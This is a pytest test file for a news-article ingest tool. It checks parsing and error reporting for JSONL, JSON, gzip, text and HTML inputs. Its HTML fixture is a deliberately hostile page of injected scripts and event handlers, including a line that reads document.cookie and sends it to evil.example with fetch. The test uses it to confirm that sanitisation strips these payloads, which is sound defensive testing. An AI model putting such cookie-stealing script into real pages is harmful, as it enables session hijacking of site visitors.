"""Readers: every record becomes an Article or an InputProblem, never nothing."""

from __future__ import annotations

import gzip
import io
import json
import sys
from collections.abc import Iterable
from pathlib import Path

import pytest

from armswatch.errors import InputError
from armswatch.ingest import IngestLimits, InputProblem, iter_articles
from armswatch.ingest.jsonl import bounded_lines
from armswatch.model import Article

MIB = 1024 * 1024


def read(
    paths: Iterable[str | Path], published: str | None = None, limits: IngestLimits | None = None
) -> tuple[list[Article], list[InputProblem]]:
    items = list(iter_articles(list(paths), published=published, limits=limits))
    articles = [item for item in items if isinstance(item, Article)]
    problems = [item for item in items if isinstance(item, InputProblem)]
    assert len(articles) + len(problems) == len(items)
    return articles, problems


def jsonl(*records: object) -> str:
    return "".join(json.dumps(r) + "\n" for r in records)


# ---------------------------------------------------------------- JSON Lines


def test_jsonl_ten_lines_three_bad(tmp_path: Path) -> None:
    lines = [json.dumps({"id": f"a{i}", "text": f"Article {i}."}) for i in range(1, 11)]
    lines[2] = '{"id": "a3", "text": "unterminated'  # line 3
    lines[5] = json.dumps({"id": "a6", "title": "no text"})  # line 6
    lines[8] = json.dumps(["not", "an", "object"])  # line 9
    path = tmp_path / "x.jsonl"
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")

    articles, problems = read([path])

    assert [a.id for a in articles] == ["a1", "a2", "a4", "a5", "a7", "a8", "a10"]
    assert [p.source for p in problems] == [f"{path}:3", f"{path}:6", f"{path}:9"]
    assert all(p.code == "AW001" for p in problems)
    assert str(problems[1]) == f"{path}:6: [AW001] record has no 'text'"
    assert str(problems[2]) == f"{path}:9: [AW001] record is not a JSON object (got array)"


def test_problem_is_one_line_naming_input_and_line(tmp_path: Path) -> None:
    path = tmp_path / "x.jsonl"
    path.write_text('{"text": "ok"}\n{"text": "a" "b"}\n', encoding="utf-8")
    _, [problem] = read([path])
    assert (
        str(problem) == f"{path}:2: [AW001] malformed JSON (Expecting ',' delimiter at column 14)"
    )


BAD_LINES = [
    pytest.param(b'{"text": "a", ', "malformed JSON (Expecting", id="malformed"),
    pytest.param(b'"just a string"', "not a JSON object (got string)", id="string"),
    pytest.param(b"42", "not a JSON object (got number)", id="number"),
    pytest.param(b'{"title": "x"}', "record has no 'text'", id="no-text"),
    pytest.param(b'{"text": 5}', "'text' is not a string (got number)", id="text-number"),
    pytest.param(b'{"text": null}', "'text' is not a string (got null)", id="text-null"),
    pytest.param(b'{"text": ["a"]}', "'text' is not a string (got array)", id="text-array"),
    pytest.param(b'{"text": ""}', "empty text", id="empty"),
    pytest.param(b'{"text": " \\n\\t "}', "empty text", id="whitespace"),
    pytest.param(b'{"text": "a\\u0000b"}', "text contains NUL characters", id="nul-escape"),
    pytest.param(b'{"text": "a\x00b"}', "binary data (NUL byte at column 12)", id="nul-byte"),
    pytest.param(b'{"text": "caf\xe9"}', "not UTF-8 text (byte 0xe9 at column 14)", id="latin1"),
    pytest.param(b'{"text": "ok", "id": 5}', "invalid record ('id': ", id="id-number"),
    pytest.param(b"[" * 100_000, "malformed JSON (nested too deeply)", id="deep"),
]


@pytest.mark.parametrize(("line", "message"), BAD_LINES)
def test_bad_line_is_reported_and_the_rest_read(tmp_path: Path, line: bytes, message: str) -> None:
    path = tmp_path / "x.jsonl"
    path.write_bytes(b'{"text": "before"}\n' + line + b'\n{"text": "after"}\n')
    articles, [problem] = read([path])
    assert [a.text for a in articles] == ["before", "after"]
    assert problem.source == f"{path}:2"
    assert message in problem.message


def test_json_text_passes_through_unchanged(tmp_path: Path) -> None:
    text = "  Lead line\r\nSecond\tline \u2028 «quoted» — 北朝鮮 😀\n\n"
    path = tmp_path / "x.ndjson"
    path.write_text(json.dumps({"text": text}) + "\n", encoding="utf-8")
    [article], [] = read([path])
    assert article.text == text
    assert article.doc_id == article.sha256


def test_blank_lines_skipped_and_counted(tmp_path: Path) -> None:
    path = tmp_path / "x.jsonl"
    path.write_bytes(b'\xef\xbb\xbf{"text": "one"}\n\n   \r\n{"text": 1}\n{"text": "two"}')
    articles, [problem] = read([path])
    assert [a.text for a in articles] == ["one", "two"]
    assert problem.source == f"{path}:4"


def test_article_over_char_limit(tmp_path: Path) -> None:
    path = tmp_path / "x.jsonl"
    path.write_text(jsonl({"text": "a" * 11}, {"text": "a" * 10}), encoding="utf-8")
    articles, [problem] = read([path], limits=IngestLimits(max_article_chars=10))
    assert len(articles) == 1
    assert problem.message == "text too long (11 characters; limit 10)"


def test_huge_line_skipped_without_losing_the_next(tmp_path: Path) -> None:
    path = tmp_path / "x.jsonl"
    huge = json.dumps({"text": "x" * 5000})
    path.write_text(jsonl({"text": "first"}) + huge + "\n" + jsonl({"text": "last"}))
    articles, [problem] = read([path], limits=IngestLimits(max_line_bytes=100))
    assert [a.text for a in articles] == ["first", "last"]
    assert str(problem) == f"{path}:2: [AW001] line too long (over 100 bytes)"


def test_bounded_lines_never_asks_for_more_than_the_limit() -> None:
    stream = io.BytesIO(b"short\n" + b"y" * 10_000 + b"\nend")
    sizes: list[int] = []

    def readline(size: int) -> bytes:
        sizes.append(size)
        return stream.readline(size)

    lines = list(bounded_lines(readline, limit=64))
    assert lines == [(1, b"short\n"), (2, None), (3, b"end")]
    assert max(sizes) == 65


def test_truncated_gzip_reports_after_readable_lines(tmp_path: Path) -> None:
    data = jsonl(*({"id": f"a{i}", "text": f"Article number {i}."} for i in range(3000)))
    compressed = gzip.compress(data.encode("utf-8"))
    path = tmp_path / "x.jsonl.gz"
    path.write_bytes(compressed[: len(compressed) // 2])
    good = tmp_path / "y.jsonl.gz"
    good.write_bytes(gzip.compress(jsonl({"text": "whole"}).encode("utf-8")))

    items = list(iter_articles([path, good]))

    *articles, problem, last = items
    assert len(articles) > 100
    assert all(isinstance(a, Article) for a in articles)
    assert [a.id for a in articles if isinstance(a, Article)] == [
        f"a{i}" for i in range(len(articles))
    ]
    assert isinstance(problem, InputProblem)
    assert problem.source == f"{path}:{len(articles) + 1}"
    assert "truncated or corrupt gzip" in problem.message
    assert isinstance(last, Article) and last.text == "whole"


def test_not_gzip_at_all(tmp_path: Path) -> None:
    path = tmp_path / "x.jsonl.gz"
    path.write_text(jsonl({"text": "plain"}))
    [], [problem] = read([path])
    assert "truncated or corrupt gzip" in problem.message


# ---------------------------------------------------------------- .json


def test_json_object_and_list(tmp_path: Path) -> None:
    one = tmp_path / "one.json"
    one.write_text(json.dumps({"id": "o", "text": "Single."}))
    many = tmp_path / "many.json"
    many.write_text(json.dumps([{"text": "First."}, {"text": ""}, {"text": "Third."}], indent=1))
    articles, [problem] = read([one, many])
    assert [a.text for a in articles] == ["Single.", "First.", "Third."]
    assert str(problem) == f"{many}[1]: [AW001] empty text"


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (
            '{\n "text": "a"\n "id": "x"}',
            "malformed JSON (Expecting ',' delimiter at line 3 column 2)",
        ),
        ("42", "record is not a JSON object (got number)"),
        ("", "malformed JSON (Expecting value at line 1 column 1)"),
    ],
)
def test_bad_json_file(tmp_path: Path, content: str, message: str) -> None:
    path = tmp_path / "x.json"
    path.write_text(content)
    [], [problem] = read([path])
    assert problem.source == str(path)
    assert problem.message.startswith(message)


# ---------------------------------------------------------------- .txt


@pytest.mark.parametrize(
    ("data", "message"),
    [
        pytest.param(b"", "empty text", id="empty"),
        pytest.param(b" \n\t\r\n ", "empty text", id="whitespace"),
        pytest.param(b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", "binary data (NUL byte at offset 8)"),
        pytest.param("Café au lait".encode("latin-1"), "not UTF-8 text (byte 0xe9 at offset 3)"),
        pytest.param(b"\xef\xbb\xbfok \xff", "not UTF-8 text (byte 0xff at offset 6)", id="bom"),
        pytest.param("text".encode("utf-16"), "UTF-16 text is not supported", id="utf16"),
    ],
)
def test_bad_txt(tmp_path: Path, data: bytes, message: str) -> None:
    path = tmp_path / "x.txt"
    path.write_bytes(data)
    [], [problem] = read([path])
    assert problem.source == str(path)
    assert problem.message.startswith(message)


def test_txt_kept_as_is(tmp_path: Path) -> None:
    text = "Headline\r\n\r\n  North Korea shipped shells.\n"
    path = tmp_path / "x.txt"
    path.write_bytes(b"\xef\xbb\xbf" + text.encode("utf-8"))
    [article], [] = read([path])
    assert article.text == text
    assert article.title is None
    assert article.id is None and article.doc_id == article.sha256


def test_file_over_size_limit_is_one_problem(tmp_path: Path) -> None:
    big = tmp_path / "big.txt"
    with big.open("wb") as handle:
        handle.write(b"a" * (51 * MIB))
    small = tmp_path / "small.txt"
    small.write_text("Still read.")
    articles, [problem] = read([big, small])
    assert [a.text for a in articles] == ["Still read."]
    assert str(problem) == f"{big}: [AW001] file too large (53,477,376 bytes; limit 52,428,800)"


# ---------------------------------------------------------------- .html

HOSTILE_HTML = """<!doctype html>
<html><head><meta charset="utf-8"><title>Arms deal - Example News</title>
<script>alert(1)</script><style>body { color: red }</style>
<script src="https://evil.example/x.js"></script></head>
<body onload="alert('body')">
<nav><a href="/">Home</a> | <a href="/about">About</a></nav>
<script>var stolen = document.cookie; fetch('https://evil.example/?' + stolen);</script>
<article>
<h1>Arms deal</h1>
<p>North Korea has shipped artillery shells to Russia, officials said.<script>evil()</script></p>
<img src="x.png" onerror="alert('onerror')">
<p>The transfer was confirmed by satellite imagery.<noscript>NOSCRIPT-PAYLOAD</noscript></p>
<svg onload="alert('svg')"><script>svgEvil()</script></svg>
<iframe srcdoc="&lt;script&gt;frameEvil()&lt;/script&gt;"></iframe>
<template><p>TEMPLATE-PAYLOAD</p></template>
</article>
<footer>Copyright Example News</footer>
</body></html>
"""


def test_html_without_scripts_or_handlers(tmp_path: Path) -> None:
    path = tmp_path / "page.html"
    path.write_text(HOSTILE_HTML, encoding="utf-8")
    [article], [] = read([path], published="2024-10-25")
    assert "North Korea has shipped artillery shells to Russia" in article.text
    assert "satellite imagery" in article.text
    for payload in ("alert", "evil", "Evil", "cookie", "color: red", "PAYLOAD", "<", "onerror"):
        assert payload not in article.text
    assert article.title == "Arms deal"
    assert article.published == "2024-10-25"


@pytest.mark.parametrize(
    ("data", "expected"),
    [
        pytest.param(
            b'<html><head><meta charset="iso-8859-1"></head><body><p>Caf\xe9 talks.</p></body>',
            "Café talks.",
            id="declared-latin1",
        ),
        pytest.param(
            b'<html><head><meta http-equiv="Content-Type" content="text/html; charset=UTF-8">'
            b"</head><body><p>Caf\xc3\xa9 talks.</p></body>",
            "Café talks.",
            id="declared-utf8",
        ),
        pytest.param(b"<html><body><p>Caf\xe9</p></body>", "not UTF-8 text", id="undeclared"),
        pytest.param(b"", "cannot parse HTML", id="empty"),
        pytest.param(b"<html><body><script>only()</script></body></html>", "no article text"),
    ],
)
def test_html_decoding(tmp_path: Path, data: bytes, expected: str) -> None:
    path = tmp_path / "page.htm"
    path.write_bytes(data)
    [item] = iter_articles([path])
    found = item.text if isinstance(item, Article) else item.message
    assert found.startswith(expected)


# ---------------------------------------------------------------- paths


def test_directory_walk_sorted_hidden_and_unsupported_skipped(tmp_path: Path) -> None:
    root = tmp_path / "in"
    (root / "sub").mkdir(parents=True)
    (root / ".git").mkdir()
    (root / "b.txt").write_text("B text.")
    (root / "a.jsonl").write_text(jsonl({"text": "A1."}, {"text": "A2."}))
    (root / "sub" / "c.html").write_text("<html><body><p>C page.</p></body></html>")
    (root / "sub" / "a.TXT").write_text("Sub A.")
    (root / "z.json").write_text(json.dumps({"text": "Z."}))
    (root / ".hidden.txt").write_text("hidden")
    (root / ".git" / "x.txt").write_text("git")
    (root / "notes.md").write_text("markdown")
    (root / "data.csv").write_text("a,b")
    articles, problems = read([root])
    assert [a.text for a in articles] == ["A1.", "A2.", "B text.", "Sub A.", "C page.", "Z."]
    assert problems == []


def test_missing_unsupported_and_unreadable(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    locked = tmp_path / "locked.txt"
    locked.write_text("secret")
    unsupported = tmp_path / "doc.pdf"
    unsupported.write_bytes(b"%PDF-1.7")
    ok = tmp_path / "ok.txt"
    ok.write_text("Fine.")
    real_open = Path.open

    def deny(self: Path, *args: object, **kwargs: object) -> object:
        if self == locked:
            raise PermissionError(13, "Permission denied", str(self))
        return real_open(self, *args, **kwargs)  # type: ignore[call-overload]

    monkeypatch.setattr(Path, "open", deny)
    paths = [tmp_path / "missing.jsonl", tmp_path / "missing", unsupported, locked, ok]
    articles, problems = read(paths)
    assert [a.text for a in articles] == ["Fine."]
    assert [str(p) for p in problems] == [
        f"{tmp_path / 'missing.jsonl'}: [AW001] no such file or directory",
        f"{tmp_path / 'missing'}: [AW001] no such file or directory",
        f"{unsupported}: [AW001] unsupported file type (expected one of .jsonl.gz, "
        ".ndjson.gz, .jsonl, .ndjson, .json, .txt, .html, .htm)",
        f"{locked}: [AW001] permission denied",
    ]


@pytest.mark.parametrize("binary", [True, False], ids=["buffer", "text-only"])
def test_stdin_is_json_lines(monkeypatch: pytest.MonkeyPatch, binary: bool) -> None:
    data = jsonl({"id": "s1", "text": "From stdin."}) + "oops\n" + jsonl({"text": "Second."})
    stdin = io.TextIOWrapper(io.BytesIO(data.encode("utf-8"))) if binary else io.StringIO(data)
    monkeypatch.setattr(sys, "stdin", stdin)
    articles, [problem] = read(["-"], published="2022-09-06")
    assert [(a.text, a.published) for a in articles] == [
        ("From stdin.", "2022-09-06"),
        ("Second.", "2022-09-06"),
    ]
    assert problem.source == "<stdin>:2"


# ---------------------------------------------------------------- published


@pytest.mark.parametrize(
    ("name", "content", "expected"),
    [
        ("a.txt", "Plain.", "2022-09-06"),
        ("a.html", "<html><body><p>Page.</p></body></html>", "2022-09-06"),
        ("a.jsonl", jsonl({"text": "No date."}), "2022-09-06"),
        ("a.jsonl", jsonl({"text": "Null date.", "published": None}), "2022-09-06"),
        ("a.jsonl", jsonl({"text": "Own date.", "published": "2023-01-02"}), "2023-01-02"),
        ("a.json", json.dumps({"text": "Own.", "published": "2023-01-02T10:00:00Z"}), None),
    ],
)
def test_published_fills_missing_dates(
    tmp_path: Path, name: str, content: str, expected: str | None
) -> None:
    path = tmp_path / name
    path.write_text(content)
    [article], [] = read([path], published="2022-09-06")
    assert article.published == (expected or "2023-01-02T10:00:00Z")


def test_no_published_stays_none(tmp_path: Path) -> None:
    path = tmp_path / "a.txt"
    path.write_text("Plain.")
    [article], [] = read([path])
    assert article.published is None


@pytest.mark.parametrize("value", ["yesterday", "2022-09", "06/09/2022", ""])
def test_invalid_published_argument_raises_before_reading(value: str) -> None:
    with pytest.raises(InputError, match="invalid 'published'"):
        iter_articles(["does-not-matter.txt"], published=value)
